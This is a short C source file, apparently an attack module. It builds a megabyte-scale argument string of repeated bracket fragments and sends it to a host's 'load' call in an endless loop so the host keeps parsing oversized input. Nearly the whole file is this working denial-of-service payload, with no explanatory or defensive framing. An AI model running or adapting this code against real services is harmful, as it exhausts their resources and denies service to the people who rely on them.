// Makes the host parse for ever: arguments of a megabyte in the form of a tree, refused each time.
#include "kit.h"

response attack(void) {
    string zeros = repeated('0', 900000);
    for (int i = 0; i + 3 < 900000; i += 4) { zeros.ptr[i] = '['; zeros.ptr[i+1] = '0'; zeros.ptr[i+2] = ']'; zeros.ptr[i+3] = ','; }
    string arguments = format("[[%S0,\"_placeholder\"],{\"_placeholder\":true}]", zeros);
    for (error error;;) {
        emit("load", arguments, &error);
    }
}
